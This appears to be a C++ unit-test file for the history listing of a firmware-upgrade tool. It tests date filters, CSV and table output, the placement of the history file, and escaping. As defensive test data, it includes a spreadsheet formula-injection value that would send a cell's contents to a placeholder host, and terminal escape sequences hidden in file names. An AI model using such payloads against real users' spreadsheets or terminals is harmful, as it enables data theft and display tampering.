// What the history command shows: the filter, the table and the CSV a spreadsheet opens.
#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>

#include "history/history_listing.h"
#include "history/history_place.h"

namespace quenfall {
namespace {

HistoryRecord RunAt(std::string start, std::string location, bool completed) {
    HistoryRecord r;
    r.Start = std::move(start);
    r.End = r.Start;
    r.Location = std::move(location);
    r.Node = "/dev/sdb";
    r.Completed = completed;
    r.Outcome = completed ? " Program upgrade is complete!" : " Communication Error!";
    r.Package = "fw.bin";
    r.CheckValue = 0x00AB;
    r.BlocksSent = 7;
    r.TotalBlocks = 9;
    return r;
}

// RFC 4180 as a spreadsheet reads it: rows of fields, quotes doubled inside quoted fields.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1);
    std::string field;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            rows.back().push_back(std::exchange(field, {}));
        } else if (c == '\n') {
            rows.back().push_back(std::exchange(field, {}));
            rows.emplace_back();
        } else {
            field += c;
        }
    }
    if (rows.back().empty()) rows.pop_back();
    return rows;
}

TEST(HistoryListing, SinceTakesADateOrATimeOfDayAndRefusesAnythingElse) {
    EXPECT_EQ(SinceBound("2026-12-09"), "2026-12-09");
    EXPECT_EQ(SinceBound("2026-12-09T14:30"), "2026-12-09T14:30");
    EXPECT_EQ(SinceBound("2026-12-09 14:30:05"), "2026-12-09T14:30:05");
    EXPECT_EQ(SinceBound("2026-12-09T14:30:05.250Z"), "2026-12-09T14:30:05.250");
    EXPECT_EQ(SinceBound("2026-12-09Z"), "2026-12-09");
    for (const char* bad : {"", "yesterday", "2026-12-9", "2026/12/09", "2026-13-01", "2026-12-32", "2026-12-09T",
                            "2026-12-09T24:00", "2026-12-09T14", "2026-12-09T14:30:5", "2026-12-09T14:30:05.",
                            "2026-12-09x14:30", "12/09/2026"}) {
        EXPECT_FALSE(SinceBound(bad).has_value()) << bad;
    }
}

TEST(HistoryListing, TheFilterKeepsFailedRunsOfALocationSinceADateInOrder) {
    const std::vector<HistoryRecord> all = {
        RunAt("2026-12-08T23:59:59.999Z", "1-1.1", false), RunAt("2026-12-09T00:00:00.000Z", "1-1.1", true),
        RunAt("2026-12-09T10:15:00.000Z", "1-1.2", false), RunAt("2026-12-09T14:30:00.000Z", "1-1.1", false),
        RunAt("2026-12-10T09:00:00.000Z", "1-1.10", false)};
    HistoryFilter failed;
    failed.FailedOnly = true;
    EXPECT_EQ(Select(all, failed).size(), 4u);
    HistoryFilter since;
    since.Since = SinceBound("2026-12-09");
    const auto fromNinth = Select(all, since);
    ASSERT_EQ(fromNinth.size(), 4u);
    EXPECT_EQ(fromNinth.front().Start, all[1].Start);
    since.Since = SinceBound("2026-12-09T14:30Z");
    EXPECT_EQ(Select(all, since).size(), 2u) << "a start at the bound itself is kept";
    HistoryFilter place;
    place.FailedOnly = true;
    place.Location = "1-1.1";  // exactly: not 1-1.10
    const auto there = Select(all, place);
    ASSERT_EQ(there.size(), 2u);
    EXPECT_EQ(there[0].Start, all[0].Start);
    EXPECT_EQ(there[1].Start, all[3].Start);
}

TEST(HistoryListing, CsvHasAHeaderRowAndOneRowOfEqualWidthPerRecordWhateverTheTextsHold) {
    std::vector<HistoryRecord> records = {RunAt("2026-12-09T10:00:00.000Z", "1-1.1", true),
                                          RunAt("2026-12-09T11:00:00.000Z", "", false)};
    records[1].Package = "radio, \"new\".bin";
    records[1].LastCommandProblem = "line one\nline two";
    records[1].Emulated = true;
    const auto rows = ParseCsv(HistoryCsv(records));
    ASSERT_EQ(rows.size(), 3u);
    const std::vector<std::string>& header = rows[0];
    EXPECT_EQ(header.front(), "start");
    EXPECT_EQ(header.size(), 20u);
    for (const auto& row : rows) EXPECT_EQ(row.size(), header.size());
    const auto column = [&](std::string_view name) {
        return static_cast<std::size_t>(std::find(header.begin(), header.end(), name) - header.begin());
    };
    EXPECT_EQ(rows[1][column("outcome")], " Program upgrade is complete!") << "leading blank kept";
    EXPECT_EQ(rows[1][column("completed")], "true");
    EXPECT_EQ(rows[2][column("completed")], "false");
    EXPECT_EQ(rows[2][column("package")], "radio, \"new\".bin");
    EXPECT_EQ(rows[2][column("last_command_problem")], "line one\nline two");
    EXPECT_EQ(rows[2][column("check_value")], "0x00AB");
    EXPECT_EQ(rows[2][column("emulated")], "true");
    EXPECT_EQ(rows[2][column("location")], "");
    EXPECT_EQ(ParseCsv(HistoryCsv({})).size(), 1u) << "the header row even with no record";

    // A file name that a spreadsheet would run as a formula stays a text.
    records[0].Package = "=HYPERLINK(\"http://x/\"&A1,\"radio\").bin";
    records[1].Package = "@SUM(1+1).bin";
    const auto guarded = ParseCsv(HistoryCsv(records));
    ASSERT_EQ(guarded.size(), 3u);
    EXPECT_EQ(guarded[1][column("package")], "'" + records[0].Package);
    EXPECT_EQ(guarded[2][column("package")], "'" + records[1].Package);
    EXPECT_EQ(guarded[1][column("location")], "1-1.1") << "only a text that begins like a formula";
}

TEST(HistoryListing, TheTableAlignsItsColumnsUnderAHeadingAndMarksEmulatedRuns) {
    std::vector<HistoryRecord> records = {RunAt("2026-12-09T10:00:00.000Z", "1-1.1", true),
                                          RunAt("2026-12-09T11:00:00.000Z", "2-3.4.1", false)};
    records[1].Emulated = true;
    std::istringstream table(HistoryTable(records));
    std::vector<std::string> lines;
    for (std::string line; std::getline(table, line);) lines.push_back(line);
    ASSERT_EQ(lines.size(), 3u);
    EXPECT_TRUE(lines[0].starts_with("start (UTC)          location  node      package  check   blocks  result"))
        << lines[0];
    EXPECT_EQ(lines[1],
              "2026-12-09 10:00:00  1-1.1     /dev/sdb  fw.bin   0x00AB  7/9     completed         "
              " Program upgrade is complete!");
    EXPECT_EQ(lines[2],
              "2026-12-09 11:00:00  2-3.4.1   /dev/sdb  fw.bin   0x00AB  7/9     failed, emulated  "
              " Communication Error!");
}

TEST(HistoryPlace, EachSystemsConventionWithTheOverrideFirst) {
    HistoryEnvironment e;
    e.Home = "/home/ann";
    EXPECT_EQ(LinuxHistoryPath(e), std::filesystem::path("/home/ann/.local/state/quenfall/history.jsonl"));
    e.XdgStateHome = "relative/state";  // not absolute: ignored, as the convention says
    EXPECT_EQ(LinuxHistoryPath(e), std::filesystem::path("/home/ann/.local/state/quenfall/history.jsonl"));
    e.XdgStateHome = "/var/state/ann";
    EXPECT_EQ(LinuxHistoryPath(e), std::filesystem::path("/var/state/ann/quenfall/history.jsonl"));
    e.Override = "/srv/shop/history.jsonl";
    EXPECT_EQ(LinuxHistoryPath(e), e.Override);
    EXPECT_EQ(LinuxHistoryPath({}), std::filesystem::path());

    HistoryEnvironment w;
    w.LocalAppData = "C:\\Users\\ann\\AppData\\Local";
    EXPECT_EQ(WindowsHistoryPath(w), w.LocalAppData / "Quenfall" / "history.jsonl");
    // Elevated, the environment may be the unelevated program's: the account's own folder.
    w.Elevated = true;
    EXPECT_EQ(WindowsHistoryPath(w), std::filesystem::path()) << "no folder of its own known: none";
    w.OwnLocalAppData = "C:\\Users\\admin\\AppData\\Local";
    EXPECT_EQ(WindowsHistoryPath(w), w.OwnLocalAppData / "Quenfall" / "history.jsonl");
    w.Override = "D:\\shop\\history.jsonl";
    EXPECT_EQ(WindowsHistoryPath(w), w.Override) << "an explicit file is honoured, under the file's own rules";
    w.Elevated = false;
    EXPECT_EQ(WindowsHistoryPath(w), w.Override);
    EXPECT_EQ(WindowsHistoryPath({}), std::filesystem::path());
}

TEST(HistoryListing, ControlCharactersInNamesAreShownEscapedInTheTableAndTheCsv) {
    std::vector<HistoryRecord> records = {RunAt("2026-12-09T10:00:00.000Z", "1-1.1", true)};
    records[0].Package = "a\x1b]0;x\x07" "b\x7f\xc2\x9b" "31m\xc3\xa9.bin";
    records[0].LastCommandProblem = "one\ntwo\x1b";
    const std::string table = HistoryTable(records);
    const std::string csv = HistoryCsv(records);
    for (const std::string* out : {&table, &csv}) {
        for (char c : std::string("\x1b\x07\x7f")) EXPECT_EQ(out->find(c), std::string::npos) << *out;
        EXPECT_EQ(out->find("\xc2\x9b"), std::string::npos) << "the C1 introducer, in UTF-8";
        EXPECT_NE(out->find("a\\x1b]0;x\\x07b\\x7f\\u009b31m\xc3\xa9.bin"), std::string::npos) << *out;
    }
    EXPECT_NE(csv.find("\"one\ntwo\\x1b\""), std::string::npos) << "a line end is the CSV's own, quoted";
    EXPECT_EQ(std::count(table.begin(), table.end(), '\n'), 2) << "one line per record";
}

}  // namespace
}  // namespace quenfall
